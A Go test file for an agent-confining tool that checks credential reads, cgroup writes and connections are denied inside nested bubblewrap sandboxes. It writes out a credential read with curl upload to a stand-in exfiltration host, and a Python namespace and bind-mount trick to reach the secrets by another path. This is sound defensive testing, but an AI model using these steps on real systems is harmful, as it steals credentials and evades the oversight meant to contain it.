//go:build linux

package main

import (
	"bytes"
	"context"
	"errors"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/chaperone-dev/chaperone/event"
	"github.com/chaperone-dev/chaperone/fileexec"
	"github.com/chaperone-dev/chaperone/redirect"
	"github.com/chaperone-dev/chaperone/telemetry"
)

// The loopback addresses of the nested-sandbox tests' servers.
const (
	nestedAPI   = "127.0.27.2"
	nestedExfil = "127.0.27.3"
	nestedDNS   = "127.0.27.9"
)

// nestedWorld is a world whose directory every user can reach (the agent
// runs as nobody too), with a credentials file the default policy keeps
// from the agent, and a working tree anyone may write.
type nestedWorld struct {
	*world
	dns          netip.AddrPort
	work, secret string
	cgroupRoot   string
}

func newNestedWorld(t *testing.T) *nestedWorld {
	t.Helper()
	needTransparent(t)
	// Not t.TempDir: nobody must reach it.
	dir, err := os.MkdirTemp("", "chaperone-nested-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	os.Chmod(dir, 0o755)
	w := &nestedWorld{world: newWorldAt(t, dir, nestedAPI, nestedExfil), dns: fakeDNSUpstreamAt(t, nestedDNS)}
	w.work = filepath.Join(dir, "work")
	w.secret = filepath.Join(dir, "home", ".aws", "credentials")
	for _, d := range []string{w.work, filepath.Dir(w.secret)} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	os.Chmod(w.work, 0o777)
	if err := os.WriteFile(w.secret, []byte("[default]\naws_secret_access_key = not-for-the-agent\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if w.cgroupRoot, err = redirect.CgroupRoot(); err != nil {
		t.Fatal(err)
	}
	return w
}

// session runs agent in a transparent session in w's working tree, as
// user ("" for root), with extra flags; it returns what the agent printed
// and the audit log's records.
func (w *nestedWorld) session(user string, extra []string, agent ...string) (result, []telemetry.Record) {
	w.t.Helper()
	w.log = filepath.Join(w.dir, "audit-"+strconv.FormatInt(time.Now().UnixNano(), 36)+".jsonl")
	args := append([]string{"run", "--mode", "transparent",
		"--dns-upstream", w.dns.String(),
		"--upstream-ca", w.caFile,
		"--deny-host", w.exfil.Addr.Addr().String(),
		"--log", w.log}, extra...)
	if user != "" {
		args = append(args, "--user", user)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, binary, append(append(args, "--"), agent...)...)
	cmd.Dir = w.work
	cmd.Env = baseEnv(w.dir)
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	err := cmd.Run()
	r := result{stdout: out.String(), stderr: errb.String()}
	if ee, ok := errors.AsType[*exec.ExitError](err); ok {
		r.code = ee.ExitCode()
	} else if err != nil {
		w.t.Fatalf("session: %v\n%s", err, errb.String())
	}
	w.t.Logf("agent printed:\n%s", r.stdout)
	recs := w.records()
	for _, rec := range recs {
		if rec.Rule == fileexec.RuleNestedMounts || rec.Rule == fileexec.RuleNestedPath || (r.code != 0 && rec.Verdict != event.Allow) {
			w.t.Logf("%s %s %s %s by %s: %s", rec.Kind, rec.Op, rec.Path, rec.Verdict, rec.Rule, rec.Reason)
		}
	}
	return r, recs
}

// systemPython is a python3 every user can run (a pyenv shim under root's
// home is not).
func systemPython(t *testing.T) string {
	t.Helper()
	if _, err := os.Stat("/usr/bin/python3"); err != nil {
		t.Skipf("no system python3: %v", err)
	}
	return "/usr/bin/python3"
}

// values parses the agent's "key=value" lines.
func values(stdout string) map[string]string {
	m := map[string]string{}
	for line := range strings.Lines(stdout) {
		if k, v, ok := strings.Cut(strings.TrimSpace(line), "="); ok {
			m[k] = v
		}
	}
	return m
}

// sandboxScript runs in bubblewrap's sandbox: it reads the credentials
// ($1), writes in the working tree ($2), moves itself through the cgroup
// mount ($3), and calls the denied host ($4 its port, $5 its address).
const sandboxScript = `cat "$1" >/dev/null 2>&1; echo "cat=$?"
echo hi > "$2/out"; echo "write=$?"
(echo $$ > "$3/cgroup.procs") 2>/dev/null; echo "cgroup=$?"
curl -fsS --max-time 10 --noproxy '*' --resolve "exfil.e2e.test:$4:$5" "https://exfil.e2e.test:$4/upload" >/dev/null 2>&1; echo "curl=$?"`

// bwrapArgs is bubblewrap's command line for a sandbox of the whole
// machine, read-only but the working tree, with or without the network.
func (w *nestedWorld) bwrapArgs(shareNet bool, script string, args ...string) []string {
	a := []string{"bwrap", "--unshare-all"}
	if shareNet {
		a = append(a, "--share-net")
	}
	a = append(a, "--die-with-parent", "--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc",
		"--bind", w.work, w.work, "--", "sh", "-c", script, "sh")
	return append(a, args...)
}

// checkSandboxDenials asserts the credentials' open and the denied host's
// connection were refused, each recorded with the process that tried, run
// from bubblewrap's sandbox.
func checkSandboxDenials(t *testing.T, recs []telemetry.Record, secret string, files bool) {
	t.Helper()
	var sawFile, sawConnect bool
	for _, r := range recs {
		if r.Verdict != event.Deny || r.Process == nil {
			continue
		}
		fromSandbox := slices.Contains(r.Process.Lineage, "bwrap")
		switch {
		case r.Kind == event.KindFile && r.Path == secret:
			sawFile = true
			if r.Rule != "no-credential-files" || filepath.Base(r.Process.Exe) != "cat" || !fromSandbox {
				t.Errorf("file record %+v: want cat's read, from bubblewrap, denied by no-credential-files", r)
			}
		case r.Kind == event.KindConnect && r.Rule == "deny_hosts":
			sawConnect = true
			if filepath.Base(r.Process.Exe) != "curl" || !fromSandbox {
				t.Errorf("connect record %+v: want curl's, from bubblewrap", r)
			}
		}
	}
	if files && !sawFile {
		t.Error("no denied file record of the credentials")
	}
	if !sawConnect {
		t.Error("no denied connect record of the denied host")
	}
}

// An agent's own sandbox (bubblewrap, as Codex and Claude Code use on
// Linux) runs in a session, and the session's guarantees hold inside it:
// the credentials stay denied (and recorded), the working tree is
// writable, the denied host is refused and attributed, the cgroup files
// stay read-only. Without file mediation, only the network and the
// cgroup hold, as outside. In a network namespace of its own the sandbox
// reaches nothing: its connections go to the proxy's address there.
func TestNestedSandboxBubblewrap(t *testing.T) {
	need(t, "bwrap", "curl", "sh")
	needMediation(t)
	w := newNestedWorld(t)
	exfilPort := strconv.Itoa(int(w.exfil.Addr.Port()))
	cgroupMount := w.cgroupRoot
	args := []string{w.secret, w.work, cgroupMount, exfilPort, nestedExfil}

	t.Run("mediated", func(t *testing.T) {
		r, recs := w.session("nobody", nil, w.bwrapArgs(true, sandboxScript, args...)...)
		mustSucceed(t, r)
		got := values(r.stdout)
		for k, want := range map[string]string{"cat": "1", "write": "0"} {
			if got[k] != want {
				t.Errorf("%s=%s, want %s\n%s", k, got[k], want, r.stderr)
			}
		}
		for _, k := range []string{"cgroup", "curl"} {
			if got[k] == "0" || got[k] == "" {
				t.Errorf("%s=%q: want it refused", k, got[k])
			}
		}
		if b, err := os.ReadFile(filepath.Join(w.work, "out")); err != nil || string(b) != "hi\n" {
			t.Errorf("the working tree's file: %q, %v", b, err)
		}
		checkSandboxDenials(t, recs, w.secret, true)
	})

	t.Run("files not mediated", func(t *testing.T) {
		r, recs := w.session("nobody", []string{"--mediate-files=false"}, w.bwrapArgs(true, sandboxScript, args...)...)
		mustSucceed(t, r)
		got := values(r.stdout)
		if got["write"] != "0" || got["cgroup"] == "0" || got["curl"] == "0" {
			t.Errorf("write=%s cgroup=%s curl=%s: want the write made, the cgroup and the host refused\n%s", got["write"], got["cgroup"], got["curl"], r.stderr)
		}
		checkSandboxDenials(t, recs, w.secret, false)
	})

	t.Run("own network namespace", func(t *testing.T) {
		apiPort := strconv.Itoa(int(w.api.Addr.Port()))
		script := `curl -sS --max-time 10 --noproxy '*' --resolve "api.e2e.test:$1:$2" "https://api.e2e.test:$1/nested" >/dev/null 2>&1; echo "curl=$?"`
		r, _ := w.session("nobody", nil, w.bwrapArgs(false, script, apiPort, nestedAPI)...)
		mustSucceed(t, r)
		if got := values(r.stdout)["curl"]; got == "0" || got == "" {
			t.Errorf("curl=%q from a network namespace of its own: want it failed", got)
		}
		if n := len(w.api.Requests()); n != 0 {
			t.Errorf("the upstream received %d requests from a network namespace of the sandbox's own", n)
		}
	})

	if n := len(w.exfil.Requests()); n != 0 {
		t.Errorf("the denied upstream received %d requests", n)
	}
}

// unshareAttacker asks for a cgroup namespace (in a child: a process
// that made a user namespace without mapping its uid may not make
// another), then makes a user and mount namespace of its own (unshare,
// through libc where os has none), and reads the credentials ($1) through
// a bind mount of their directory in the working tree ($2), and by their
// own path.
const unshareAttacker = `
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
NEWNS, NEWUSER, NEWCGROUP, BIND = 0x00020000, 0x10000000, 0x02000000, 4096
def unshare(flags):
    if libc.unshare(flags) != 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
def read(path):
    try:
        open(path).read()
        return "read"
    except OSError as e:
        return "err-" + str(e.errno)
secret, work = sys.argv[1], sys.argv[2]
r, w = os.pipe()
pid = os.fork()
if pid == 0:
    try:
        unshare(NEWUSER | NEWCGROUP)
        os.write(w, b"ok")
    except OSError as e:
        os.write(w, ("err-" + str(e.errno)).encode())
    os._exit(0)
os.close(w)
print("cgroupns=" + os.read(r, 100).decode())
os.waitpid(pid, 0)
try:
    unshare(NEWUSER | NEWNS)
    print("unshare=ok")
except OSError as e:
    print("unshare=err-" + str(e.errno))
    sys.exit(0)
alias = os.path.join(work, "alias")
os.makedirs(alias, exist_ok=True)
if libc.mount(os.path.dirname(secret).encode(), alias.encode(), None, BIND, None) != 0:
    print("bind=err-" + str(ctypes.get_errno()))
print("alias=" + read(os.path.join(alias, os.path.basename(secret))))
print("direct=" + read(secret))
`

// A process that makes a mount namespace for itself and opens a file at
// once (python's unshare, then open) finds it decided as in the session:
// through a bind mount of its directory elsewhere it is still the
// credentials file, denied and recorded under its own path. A uid-0 agent
// is refused a cgroup namespace, with a record that says why; an ordinary
// user gets one.
func TestNestedSandboxUnshareAttacker(t *testing.T) {
	needMediation(t)
	python := systemPython(t)
	w := newNestedWorld(t)
	for _, tt := range []struct{ name, user, cgroupns string }{
		{"root", "", "err-1"},
		{"nobody", "nobody", "ok"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			os.RemoveAll(filepath.Join(w.work, "alias"))
			r, recs := w.session(tt.user, nil, python, "-c", unshareAttacker, w.secret, w.work)
			mustSucceed(t, r)
			got := values(r.stdout)
			want := map[string]string{"unshare": "ok", "alias": "err-1", "direct": "err-1", "cgroupns": tt.cgroupns}
			for k, v := range want {
				if got[k] != v {
					t.Errorf("BYPASS? %s=%s, want %s\n%s", k, got[k], v, r.stderr)
				}
			}
			var denied []string
			var cgroupRefusal *telemetry.Record
			for _, rec := range recs {
				if rec.Kind != event.KindFile || rec.Verdict != event.Deny {
					continue
				}
				switch {
				case rec.Path == w.secret:
					denied = append(denied, rec.Rule)
				case strings.HasPrefix(rec.Path, filepath.Join(w.work, "alias")):
					t.Errorf("decided by its path in the sandbox: %+v", rec)
				case rec.Rule == fileexec.RuleCgroupNS:
					cgroupRefusal = &rec
				}
			}
			// The open through the bind mount is decided, as the
			// credentials; the second open is answered from the cache.
			if !slices.Equal(denied, []string{"no-credential-files"}) {
				t.Errorf("denied records of the credentials: %q, want one by no-credential-files", denied)
			}
			if tt.cgroupns != "ok" {
				if cgroupRefusal == nil {
					t.Fatal("no record of the refused cgroup namespace")
				}
				if cgroupRefusal.Op != "unshare" || cgroupRefusal.Process == nil || !strings.Contains(cgroupRefusal.Reason, "--user") {
					t.Errorf("refusal %+v: want unshare's, with the process and what to do (--user)", *cgroupRefusal)
				}
			}
		})
	}
}
